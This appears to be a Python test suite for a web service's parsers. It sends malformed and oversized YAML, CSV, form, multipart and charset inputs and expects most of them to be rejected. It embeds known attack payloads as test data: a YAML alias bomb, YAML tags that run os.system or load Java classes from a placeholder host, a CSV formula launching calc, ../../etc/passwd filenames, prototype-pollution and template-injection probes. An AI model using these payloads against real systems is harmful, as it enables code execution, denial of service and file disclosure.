"""YAML, CSV, forms, multipart and plain text: what is not JSON or XML, and in which charset."""

# ruff: noqa: E501 - a line an input
from __future__ import annotations

from hostile.case import Bytes, Case, Post

MB = 1024 * 1024
FORM = "application/x-www-form-urlencoded"


def _yaml() -> list[Case]:
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{','.join(f'*{a}' for _ in range(9))}]\n"
        for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    bodies: dict[str, tuple[Bytes, int]] = {
        "aliases that grow": (laughs, 400),
        "an alias": ("a: &x 1\nb: *x", 400),
        "an anchor": ("a: &x 1", 400),
        "an alias in itself": ("&x [*x]", 400),
        "a merge": ("a: &x {b: 1}\nc: {<<: *x}", 400),
        "a tag of Python": ('!!python/object/apply:os.system ["id"]', 400),
        "a new object of Python": ("!!python/object/new:str [a]", 400),
        "a module of Python": ("!!python/module:os", 400),
        "a tag of Ruby": ("!ruby/object:Gem::Requirement {}", 400),
        "a tag of Java": (
            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://CANARY/"]]]]',
            400,
        ),
        "a tag of its own": ("!x 1", 400),
        "a binary": ("!!binary aGk=", 400),
        "a set": ("!!set {a}", 400),
        "a tag directive": ("%TAG ! tag:x,2000:\n---\n!y 1", 400),
        "a key twice": ("a: 1\na: 2", 400),
        "a key twice in braces": ("{a: 1, a: 2}", 400),
        "a key that is a list": ("[a]: 1", 400),
        "a key that is an object": ("{a: 1}: 2", 400),
        "two documents": ("a: 1\n---\nb: 2", 400),
        "100,000 documents": ("---\n" * 100_000, 400),
        "a tab": ("a:\n\tb: 1", 400),
        "a colon too much": ("a: b: c", 400),
        "a quote that never ends": ('a: "b', 400),
        "5,000 brackets": ("[" * 5_000, 413),
        "200 brackets": ("[" * 200 + "]" * 200, 413),
        "61 levels of lines": ("".join(" " * i + "a:\n" for i in range(70)), 413),
        "70 dashes": ("- " * 70 + "a", 413),
        "100,000 dashes": ("- " * 100_000 + "a", 413),
        "4 MB of brackets": (lambda: "[\n" * (2 * MB - 10), 413),
        "4 MB of question marks": (lambda: "? " * (2 * MB - 10), 413),
        "4 MB of values": (lambda: "- a\n" * (MB - 10), 413),
        "4 MB of keys": (lambda: "".join(f"k{i}: 1\n" for i in range(330_000)), 413),
        "10 MB": (lambda: "a: " + "b" * 10 * MB, 413),
        "a text of 3 MB": (lambda: "a: " + "b" * 3 * MB, 200),
        "a folded text of 3 MB": (lambda: "a: >\n" + " b\n" * MB, 200),
        "quotes of 3 MB": (lambda: 'a: "' + "\\x41" * (3 * MB // 4) + '"', 200),
        "a comment of 3 MB": (lambda: "a: 1 #" + "b" * 3 * MB, 200),
        "3 MB of empty lines": (lambda: "\n" * 3 * MB, 200),
        "a NUL": ("a: \0", 400),
        "an escape": ("a: \x1b[2J", 400),
        "half of a pair": (r'a: "\ud800"', 400),
        "a number of 100,000 digits": ("a: " + "9" * 100_000, 400),
        "an exponent out of range": ("a: 1e999999999", 400),
        "bytes that are no UTF-8": (b"a: \xff", 400),
        "UTF-16": ("a: 1".encode("utf-16"), 400),
        "a time": ("a: 2024-13-45", 200),
        "NaN": ("a: .nan", 200),
        "sixties": ("a: 190:20:30", 200),
    }
    return [
        Case(
            "yaml",
            name,
            Post("/yaml", body, "application/yaml"),
            (status,) if status != 413 else (400, 413),
        )
        for name, (body, status) in bodies.items()
    ]


def _csv() -> list[Case]:
    bodies: dict[str, tuple[Bytes, tuple[int, ...]]] = {
        "nothing": ("", (200, 400)),
        "a quote that never ends": ('a,b\n"1,2\n', (400,)),
        "a row that is too short": ("a,b\n1\n", (400,)),
        "a row that is too long": ("a,b\n1,2,3\n", (400,)),
        "two columns of one name": ("a,a\n1,2\n", (400,)),
        "a column without a name": ("a,\n1,2\n", (400, 200)),
        "text behind a quote": ('a,b\n"1"x,2\n', (400,)),
        "a NUL": ("a,b\n1,\0\n", (200, 400)),
        "a field of 10 MB": (lambda: "a\n" + "x" * 10 * MB + "\n", (200, 400, 413)),
        "a quoted field of 10 MB": (lambda: 'a\n"' + "x\n" * 5 * MB + '"\n', (200, 400, 413)),
        "10 MB of quotes": (lambda: 'a\n"' + '""' * 5 * MB + '"\n', (200, 400, 413)),
        "10 MB of commas": (lambda: "," * 10 * MB, (400, 413)),
        "10 MB of commas below a header": (lambda: "a,b\n" + "," * 10 * MB, (400, 413)),
        "100,000 columns": (
            lambda: ",".join(f"c{i}" for i in range(100_000)) + "\n" + "," * 99_999,
            (200, 400, 413),
        ),
        "10 MB of lines": (lambda: "a\n" + "1\n" * 5 * MB, (200, 400, 413)),
        "10 MB of empty lines": (lambda: "a\n" + "\n" * 10 * MB, (200, 400, 413)),
        "10 MB of carriage returns": (lambda: "a\n" + "\r" * 10 * MB, (200, 400, 413)),
        "a formula": ("a\n=cmd|' /C calc'!A0\n", (200,)),
        "bytes that are no UTF-8": (b"a\n\xff\n", (400,)),
        "UTF-16": ("a\n1\n".encode("utf-16"), (400,)),
        "a bomb of columns": (
            lambda: ",".join(f"c{i}" for i in range(1_000)) + "\n" + ("," * 999 + "\n") * 9_000,
            (200, 400, 413),
        ),
    }
    found = [
        Case("csv", name, Post("/csv", body, "text/csv"), statuses)
        for name, (body, statuses) in bodies.items()
    ]
    found += [
        Case(
            "csv",
            f"the parameter {value[:30]}",
            Post("/any", "a,b\n1,2\n", f"text/csv; {value}"),
            statuses,
        )
        for value, statuses in (
            ("delimiter=ab", (400,)),
            ('delimiter="\\n"', (200, 400)),
            ('delimiter=""', (400, 200)),
            ("charset=utf-7", (400,)),
            ("charset=rot13", (400,)),
            ("charset=zip", (400,)),
            ("header=maybe", (400,)),
            ('quote="abc"', (400,)),
            ("charset=" + "x" * 10_000, (400,)),
        )
    ]
    return found


def _forms() -> list[Case]:
    bodies: dict[str, tuple[Bytes, tuple[int, ...]]] = {
        "half an escape": ("a=%", (200, 400)),
        "bytes that are no UTF-8": ("a=%ff", (400,)),
        "overlong UTF-8": ("a=%c0%af", (400,)),
        "half of a pair": ("a=%ed%a0%80", (400,)),
        "raw bytes": (b"a=\xff", (400,)),
        "100,000 fields": (lambda: "&".join(f"a{i}=1" for i in range(100_000)), (400, 413)),
        "10 MB of &": (lambda: "&" * 10 * MB, (200, 400, 413)),
        "10 MB of fields": (lambda: "a&" * 5 * MB, (400, 413)),
        "10 MB of escapes": (lambda: "a=" + "%41" * (10 * MB // 3), (200,)),
        "10 MB of =": (lambda: "=" * 10 * MB, (200, 400)),
        "10 MB of +": (lambda: "a=" + "+" * 10 * MB, (200,)),
        "a field of 10 MB": (lambda: "a=" + "b" * 10 * MB, (200,)),
        "a field twice": ("a=1&a=2", (200,)),
        "a NUL": ("a=%00", (200, 400)),
        "__proto__": ("__proto__[x]=1", (200,)),
    }
    return [
        Case("form", name, Post("/form", body, FORM), statuses)
        for name, (body, statuses) in bodies.items()
    ]


def _parts() -> list[Case]:
    part = '--b\r\nContent-Disposition: form-data; name="a"%s\r\n\r\n1\r\n'
    end = "--b--\r\n"
    good = 'multipart/form-data; boundary="b"'
    bodies: dict[str, tuple[Bytes, str, tuple[int, ...]]] = {
        "no boundary": (part % "" + end, "multipart/form-data", (400,)),
        "an empty boundary": (part % "" + end, 'multipart/form-data; boundary=""', (400,)),
        "a boundary of 71 letters": ("x", "multipart/form-data; boundary=" + "b" * 71, (400,)),
        "a boundary with a line break": ("x", 'multipart/form-data; boundary="a\\\nb"', (400,)),
        "another boundary": (part % "" + end, "multipart/form-data; boundary=c", (400,)),
        "nothing": ("", good, (400,)),
        "no end": (part % "", good, (400,)),
        "an end alone": (end, good, (200, 400)),
        "no name": ("--b\r\n\r\n1\r\n" + end, good, (400,)),
        "another disposition": (
            "--b\r\nContent-Disposition: attachment\r\n\r\n1\r\n" + end,
            good,
            (400,),
        ),
        "a header twice": (
            '--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Disposition: form-data; name="b"\r\n\r\n1\r\n'
            + end,
            good,
            (400,),
        ),
        "line feeds only": (part.replace("\r\n", "\n") % "" + "--b--\n", good, (200, 400)),
        "a header without a colon": ("--b\r\nContent-Disposition\r\n\r\n1\r\n" + end, good, (400,)),
        "a header with a NUL": (
            '--b\r\nContent-Disposition: form-data; name="a\0"\r\n\r\n1\r\n' + end,
            good,
            (200, 400),
        ),
        "a folded header": (
            '--b\r\nContent-Disposition: form-data;\r\n name="a"\r\n\r\n1\r\n' + end,
            good,
            (400,),
        ),
        "a header of 1 MB": (lambda: part % ("; x=" + "a" * MB) + end, good, (413,)),
        "1,000 headers of a part": (lambda: part % ("\r\nX: y" * 1_000) + end, good, (400, 413)),
        "100 headers of a part": (
            lambda: part % "".join(f"\r\nX{i}: y" for i in range(100)) + end,
            good,
            (413,),
        ),
        "10,000 parts": (lambda: part % "" * 10_000 + end, good, (413,)),
        "10 MB of parts": (lambda: "--b\r\n\r\n\r\n" * MB + end, good, (400, 413)),
        "10 MB of nearly boundaries": (
            lambda: part % "" + "\r\n--a" * 2 * MB + "\r\n" + end,
            good,
            (400, 200),
        ),
        "10 MB of line ends": (
            lambda: (
                '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + "\r\n" * 5 * MB + end
            ),
            good,
            (200,),
        ),
        "10 MB of dashes": (
            lambda: (
                '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
                + "\r\n-" * 3 * MB
                + "\r\n"
                + end
            ),
            good,
            (200,),
        ),
        "a part of 10 MB": (
            lambda: (
                '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
                + "x" * 10 * MB
                + "\r\n"
                + end
            ),
            good,
            (200,),
        ),
        "10 MB before the first part": (
            lambda: "x" * 10 * MB + "\r\n" + part % "" + end,
            good,
            (200, 400),
        ),
        "10 MB behind the last": (lambda: part % "" + end + "x" * 10 * MB, good, (200, 400)),
        "parameters without end": (lambda: part % ("; a=b" * 1_500) + end, good, (200, 400)),
        "a quote without end": (part % ('; x="' + "\\" * 7_000) + end, good, (200, 400)),
        "a parameter in pieces": (
            part % ("; " + "; ".join(f"x*{i}=a" for i in range(800))) + end,
            good,
            (200, 400),
        ),
        "parts in a part": (
            '--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n'
            + end,
            good,
            (200,),
        ),
        "a name that climbs": (part % '; filename="../../etc/passwd"' + end, good, (200,)),
        "a name with a NUL": (part % '; filename="a\0.txt"' + end, good, (200, 400)),
        "a name with a line break": (part % '; filename="a%0d%0ab"' + end, good, (200,)),
        "text in UTF-7": (
            '--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-\r\n'
            + end,
            good,
            (200, 400),
        ),
        "bytes that are no UTF-8": (
            b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\xff\r\n--b--\r\n',
            good,
            (400,),
        ),
        "a header in Latin-1": (
            b'--b\r\nContent-Disposition: form-data; name="\xff"\r\n\r\n1\r\n--b--\r\n',
            good,
            (400,),
        ),
        "base64 that is none": (
            "--b\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n" + end,
            "multipart/mixed; boundary=b",
            (400,),
        ),
        "a coding nobody knows": (
            "--b\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n1\r\n" + end,
            "multipart/mixed; boundary=b",
            (400,),
        ),
        "quoted-printable of 10 MB": (
            lambda: (
                "--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                + "=41" * 3 * MB
                + "\r\n"
                + end
            ),
            "multipart/mixed; boundary=b",
            (200, 400),
        ),
        "10 MB of base64": (
            lambda: (
                "--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + "AAAA" * (10 * MB // 4)
                + "\r\n"
                + end
            ),
            "multipart/mixed; boundary=b",
            (200, 400),
        ),
        "related": (part % "" + end, "multipart/related; boundary=b", (200, 415)),
        "a message in a message": (
            "--b\r\nContent-Type: message/rfc822\r\n\r\nX: y\r\n\r\n1\r\n" + end,
            "multipart/mixed; boundary=b",
            (200, 400),
        ),
    }
    return [
        Case("multipart", name, Post("/parts", body, kind), statuses)
        for name, (body, kind, statuses) in bodies.items()
    ]


def _charsets() -> list[Case]:
    names = (
        "utf-7",
        "UTF_7",
        "unicode-1-1-utf-7",
        "punycode",
        "idna",
        "unicode_escape",
        "raw_unicode_escape",
        "undefined",
        "rot13",
        "rot_13",
        "base64",
        "zip",
        "bz2",
        "hex",
        "uu",
        "quopri",
        "zlib",
        "mbcs",
        "oem",
        "hz",
        "iso-2022-jp",
        "iso-2022-kr",
        "palmos",
        "ptcp154",
        "x-user-defined",
        "utf-8\0",
        "../../etc/passwd",
        "utf-8;x",
        "x" * 20_000,
        "",
        "%s%s%n",
        "{{7*7}}",
    )
    found = [
        Case(
            "charsets",
            f"text in {name[:30]!r}",
            Post("/text", b"+ADw-script+AD4-", f'text/plain; charset="{name}"'),
            (400,),
        )
        for name in names
        if "\0" not in name and name != "utf-8;x"
    ]
    found += [
        Case(
            "charsets",
            f"a form in {name}",
            Post("/form", b"a=+ADw-", f"{FORM}; charset={name}"),
            (400,),
        )
        for name in names[:10]
    ]
    found += [
        Case(
            "charsets",
            f"YAML in {name}",
            Post("/yaml", b"a: +ADw-", f"application/yaml; charset={name}"),
            (400,),
        )
        for name in names[:10]
    ]
    found += [
        Case("charsets", f"text: {name}", Post("/text", raw, kind), statuses)
        for name, raw, kind, statuses in (
            ("bytes that are no UTF-8", b"\xff", "text/plain", (400,)),
            ("overlong UTF-8", b"\xc0\xaf", "text/plain", (400,)),
            ("half a letter of UTF-16", b"\xff\xfea", "text/plain; charset=utf-16", (400,)),
            ("half of a pair in UTF-16", b"\x00\xd8", "text/plain; charset=utf-16-le", (400,)),
            ("two charsets", b"\xff", "text/plain; charset=utf-8; charset=latin-1", (200, 400)),
            ("10 MB of UTF-16", bytes(10 * MB), "text/plain; charset=utf-16-le", (200,)),
            ("10 MB of EBCDIC", bytes(10 * MB), "text/plain; charset=cp500", (200,)),
            (
                "10 MB of GB18030",
                b"\x810\x810" * (5 * MB // 2),
                "text/plain; charset=gb18030",
                (200,),
            ),
        )
    ]
    found += [
        Case(
            "charsets", f"the content type {kind[:30]!r}", Post("/any", b"a", kind), (200, 400, 415)
        )
        for kind in (
            "/",
            ";",
            "text",
            "a/b/c",
            "application/",
            "application/x-python-pickle",
            "application/java-serialized-object",
            "application/x-msgpack",
            "a" * 20_000,
            "application/json" + ";a=b" * 5_000,
            "application/json; " + "a" * 20_000,
            'application/json; a="' + "\\" * 20_000,
            "*/*",
            "application/*",
            "application/zip",
            "message/rfc822",
        )
    ]
    return found


def cases() -> list[Case]:
    """All."""
    return [*_yaml(), *_csv(), *_forms(), *_parts(), *_charsets()]
